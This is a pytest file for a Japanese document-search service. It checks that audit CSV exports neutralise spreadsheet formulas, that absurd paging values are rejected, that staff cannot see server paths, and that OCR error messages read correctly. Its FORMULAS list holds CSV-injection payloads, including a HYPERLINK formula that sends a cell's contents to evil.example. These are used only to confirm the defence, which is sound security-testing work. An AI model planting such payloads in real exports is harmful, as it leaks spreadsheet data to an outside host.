"""The probe's smaller findings, through the real app and pipeline on real stores: audit CSV cells that a
spreadsheet would run as formulas, absurd audit paging, server paths shown to staff, and the needs-OCR reason
when OCR is switched off or not installed."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from access_fixtures import bearer
from fastapi.testclient import TestClient
from kotae_env import clear_kotae_env
from reportlab.pdfgen import canvas

from ingest.loaders.ocr import ocr_available
from ingest.pipeline import run_ingest
from kotae.auth import UserStore
from kotae.settings import load_settings
from service.app import create_app

FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"窓口\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
            "＝1+1"]
PLAIN = "窓口の受付時間は"


@pytest.fixture(autouse=True)
def _no_kotae_env(monkeypatch: pytest.MonkeyPatch) -> None:
    clear_kotae_env(monkeypatch)


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Two text documents, an admin and a staff member."""
    root = tmp_path_factory.mktemp("small")
    docs = root / "docs"
    docs.mkdir()
    (docs / "窓口.txt").write_text("窓口のご案内\n窓口の受付時間は午前八時三十分からです。\n", encoding="utf-8")
    (docs / "図書館.txt").write_text("図書館のご案内\n中央図書館は毎週月曜日が休館日です。\n", encoding="utf-8")
    with pytest.MonkeyPatch.context() as mp:
        clear_kotae_env(mp)
        run_ingest([docs], load_settings(root / "store"))
    return root / "store"


@pytest.fixture(scope="module")
def tokens(store: Path) -> dict[str, str]:
    users = UserStore(store)
    return {"admin": users.add("smalladmin", "admin", ["DX推進課"]), "staff": users.add("smallstaff", "staff",
                                                                                   ["総務課"])}


@pytest.fixture(scope="module")
def client(store: Path, tokens: dict[str, str]) -> Iterator[TestClient]:
    with pytest.MonkeyPatch.context() as mp:
        clear_kotae_env(mp)
        mp.setenv("KOTAE_AUTH", "on")
        mp.setenv("KOTAE_RATE_LIMIT_PER_MINUTE", "0")
        settings = load_settings(store)
    with TestClient(create_app(settings)) as test_client:
        yield test_client


# --- audit CSV and paging -----------------------------------------------------------------------------------------


def test_audit_csv_cells_that_start_a_formula_get_an_apostrophe(client: TestClient, tokens: dict[str, str]) -> None:
    """A question a spreadsheet would run (= + - @, tab, carriage return) is exported as text; others as typed."""
    for query in [*FORMULAS, PLAIN]:
        assert client.post("/api/search", json={"query": query}, headers=bearer(tokens["staff"])).status_code == 200
    response = client.get("/api/admin/audit.csv", headers=bearer(tokens["admin"]))
    assert response.status_code == 200
    questions = [row[5] for row in csv.reader(io.StringIO(response.text, newline=""))][1:]
    for query in FORMULAS:
        assert "'" + query in questions, (query, questions)
    assert PLAIN in questions
    assert all(q == "" or not q.startswith(("=", "+", "-", "@", "\t", "\r", "＝")) for q in questions), questions
    stored = client.get("/api/admin/audit", params={"action": "search", "limit": 1000},
                        headers=bearer(tokens["admin"])).json()["events"]
    assert set(FORMULAS) <= {e["question"] for e in stored}  # only the export changes; the log keeps what was typed


@pytest.mark.parametrize("params", [{"offset": 2**63}, {"offset": 10**9 + 1}, {"offset": -1}, {"limit": 2**63},
                                    {"limit": 0}, {"offset": "9" * 40}])
def test_absurd_audit_paging_is_422(client: TestClient, tokens: dict[str, str], params: dict[str, int | str]) -> None:
    """offset=2**63 was a 500 (SQLite's integers end at 2**63 - 1)."""
    lenient = TestClient(client.app, raise_server_exceptions=False)
    response = lenient.get("/api/admin/audit", params=params, headers=bearer(tokens["admin"]))
    assert response.status_code == 422, (params, response.status_code, response.text)


def test_the_largest_allowed_offset_is_an_empty_page(client: TestClient, tokens: dict[str, str]) -> None:
    response = client.get("/api/admin/audit", params={"offset": 10**9}, headers=bearer(tokens["admin"]))
    assert response.status_code == 200 and response.json()["events"] == []


# --- server paths -------------------------------------------------------------------------------------------------


def test_documents_show_the_server_folder_to_admins_only(client: TestClient, store: Path,
                                                         tokens: dict[str, str]) -> None:
    """Staff never see where on the server a document was read from."""
    folder = str((store.parent / "docs").resolve())
    staff = client.get("/api/documents", headers=bearer(tokens["staff"])).json()["documents"]
    admin = client.get("/api/documents", headers=bearer(tokens["admin"])).json()["documents"]
    assert {d["source"] for d in staff} == {d["source"] for d in admin} == {"窓口.txt", "図書館.txt"}
    assert all(d["root"] is None for d in staff), staff
    assert all(d["root"] == folder for d in admin), admin
    staff_text = client.get("/api/documents", headers=bearer(tokens["staff"])).text
    assert folder not in staff_text and str(store.parent) not in staff_text


# --- the needs-OCR reason -----------------------------------------------------------------------------------------


def blank_pdf(path: Path, pages: int) -> Path:
    """Pages that draw a shape but carry no text layer."""
    path.parent.mkdir(parents=True, exist_ok=True)
    c = canvas.Canvas(str(path))
    for _ in range(pages):
        c.rect(100, 100, 200, 200, fill=1)
        c.showPage()
    c.save()
    return path


def test_needs_ocr_reason_with_ocr_switched_off(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """KOTAE_OCR=off: the reason says OCR is off and how to turn it on, not that tesseract is missing."""
    blank_pdf(tmp_path / "docs" / "scan.pdf", 2)
    monkeypatch.setenv("KOTAE_OCR", "off")
    summary = run_ingest([tmp_path / "docs"], load_settings(tmp_path / "store"))
    reason = {f["source"]: f["reason"] for f in summary.failed}["scan.pdf"]
    assert reason == ("needs OCR: no text layer on pages 1-2 and OCR is switched off (KOTAE_OCR=off; unset it or "
                      "set KOTAE_OCR=on to read such pages)")
    assert "tesseract" not in reason


def test_needs_ocr_reason_without_tesseract(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """OCR on, but neither tesseract nor pdftoppm on PATH: the reason says what to install."""
    blank_pdf(tmp_path / "docs" / "scan.pdf", 1)
    empty = tmp_path / "bin"
    empty.mkdir()
    monkeypatch.setenv("PATH", str(empty))
    ocr_available.cache_clear()  # the answer is cached per process; this test changes the machine's programs
    try:
        summary = run_ingest([tmp_path / "docs"], load_settings(tmp_path / "store"))
    finally:
        monkeypatch.undo()
        ocr_available.cache_clear()
    reason = {f["source"]: f["reason"] for f in summary.failed}["scan.pdf"]
    assert reason == ("needs OCR: no text layer on page 1 and tesseract with Japanese (jpn) is not installed "
                      "(Debian: apt install tesseract-ocr tesseract-ocr-jpn poppler-utils)")
